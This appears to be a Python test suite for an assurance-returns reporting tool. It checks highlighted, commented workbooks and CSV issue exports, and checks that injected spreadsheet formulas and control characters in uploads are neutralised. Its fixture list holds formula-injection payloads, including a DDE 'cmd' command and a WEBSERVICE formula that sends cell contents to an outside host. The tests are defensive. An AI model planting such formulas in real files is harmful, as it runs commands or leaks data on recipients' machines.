"""The report files: issues as CSV, and the workbook with problem cells highlighted and commented."""

import csv
import io

import openpyxl

from assurance.returns.report import ERROR_FILL, QUERY_FILL, highlighted_workbook
from assurance.returns.validate import prepare, preview
from tests.returns.builders import activity_sheets, xlsx


def test_problem_cells_are_highlighted_and_commented(engine):
    sheets = activity_sheets(20)
    sheets["Concerns"][2][6] = "Femail"
    data = xlsx(sheets)
    report = preview(prepare(data, "LA 2025-26 Q2.xlsx", engine), engine)
    assert sorted(i.rule for i in report.issues) == ["UNKNOWN_CODE"]
    out = openpyxl.load_workbook(io.BytesIO(highlighted_workbook(data, "LA 2025-26 Q2.xlsx", report.issues)))
    cell = out["Concerns"]["G3"]
    assert cell.fill.fgColor.rgb[-6:] == ERROR_FILL.fgColor.rgb[-6:]
    assert cell.comment.text == "[UNKNOWN_CODE] Gender “Femail” is not in the gender list. Fix: Did you mean “Female”?"
    assert out["Concerns"]["G4"].comment is None and out["Concerns"]["G4"].value == "Female"
    rows = list(csv.DictReader(io.StringIO(report.csv_bytes().decode("utf-8-sig"))))
    assert [(r["Severity"], r["Rule"], r["Cell"], r["Value"]) for r in rows] == [("error", "UNKNOWN_CODE", "G3", "Femail")]
    assert QUERY_FILL.fgColor.rgb != ERROR_FILL.fgColor.rgb


def test_csv_upload_gets_a_highlighted_workbook_too(engine):
    text = "Measure code,Numerator,Denominator\nstaff_trained,1500,1400\nmca_training,10,20\nsupervision,1,2\n" \
           "concerns_raised,3,\ndols_applications,4,\n"
    data = text.encode("utf-8-sig")
    report = preview(prepare(data, "POL 2025-26 Q2.csv", engine), engine)
    out = openpyxl.load_workbook(io.BytesIO(highlighted_workbook(data, "POL 2025-26 Q2.csv", report.issues)))
    assert out.sheetnames == ["POL 2025-26 Q2"]
    assert out["POL 2025-26 Q2"]["B2"].comment.text.startswith("[NUMERATOR_ABOVE_DENOMINATOR] Numerator 1,500")


def test_csv_with_a_long_file_name_still_gets_its_highlights(engine):
    text = "Measure code,Numerator,Denominator\nstaff_trained,1500,1400\nmca_training,10,20\nsupervision,1,2\n" \
           "concerns_raised,3,\ndols_applications,4,\n"
    data = text.encode("utf-8")
    name = "POL Demo Shire Police partner assurance return 2025-26 Q2 [final].csv"  # stem over 31 characters
    report = preview(prepare(data, name, engine), engine)
    assert [(i.rule, i.sheet, i.cell) for i in report.issues] == [
        ("NUMERATOR_ABOVE_DENOMINATOR", "POL Demo Shire Police partner assurance return 2025-26 Q2 [final]", "B2")]
    out = openpyxl.load_workbook(io.BytesIO(highlighted_workbook(data, name, report.issues)))
    assert out.sheetnames == ["POL Demo Shire Police partner a"]
    cell = out["POL Demo Shire Police partner a"]["B2"]
    assert cell.fill.fgColor.rgb[-6:] == ERROR_FILL.fgColor.rgb[-6:]
    assert cell.comment.text.startswith("[NUMERATOR_ABOVE_DENOMINATOR] Numerator 1,500")


FORMULAS = ['=HYPERLINK("https://example.org/x","Click here")', "=cmd|'/C calc'!A0", "+1+2", "-2+3",
            "@SUM(1,2)", '=WEBSERVICE("https://example.org/?"&A1)']


def _no_formulas(data: bytes, title: str) -> list:
    ws = openpyxl.load_workbook(io.BytesIO(data))[title]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return [c.value for c in cells]


def test_formulas_in_a_csv_upload_stay_text_in_the_highlighted_copy(engine):
    rows = ["Measure code,Numerator,Denominator,Commentary"] + [
        f'staff_trained,1,2,"{f.replace(chr(34), chr(34) * 2)}"' for f in FORMULAS]
    data = ("\n".join(rows) + "\n").encode("utf-8")
    report = preview(prepare(data, "POL 2025-26 Q2.csv", engine), engine)
    values = _no_formulas(highlighted_workbook(data, "POL 2025-26 Q2.csv", report.issues), "POL 2025-26 Q2")
    for f in FORMULAS:
        assert "'" + f in values  # kept, with the quote every export puts before such text


def test_formulas_in_an_ods_upload_stay_text_in_the_highlighted_copy(engine):
    from tests.returns.builders import MEASURE_HEADERS, ods

    data = ods({"Measures": [MEASURE_HEADERS, *[[f, 1, 2, f] for f in FORMULAS]]})
    report = preview(prepare(data, "POL 2025-26 Q2.ods", engine), engine)
    values = _no_formulas(highlighted_workbook(data, "POL 2025-26 Q2.ods", report.issues), "Measures")
    assert sum(v == "'" + f for v in values for f in FORMULAS) == 2 * len(FORMULAS)


def test_control_characters_in_a_csv_upload_do_not_break_the_highlighted_copy(engine):
    data = "Measure code,Numerator,Denominator\nstaff\x07_trained,1,2\nmca_training,x\x1by,2\n".encode("utf-8")
    report = preview(prepare(data, "POL 2025-26 Q2.csv", engine), engine)
    values = _no_formulas(highlighted_workbook(data, "POL 2025-26 Q2.csv", report.issues), "POL 2025-26 Q2")
    assert "staff\ufffd_trained" in values
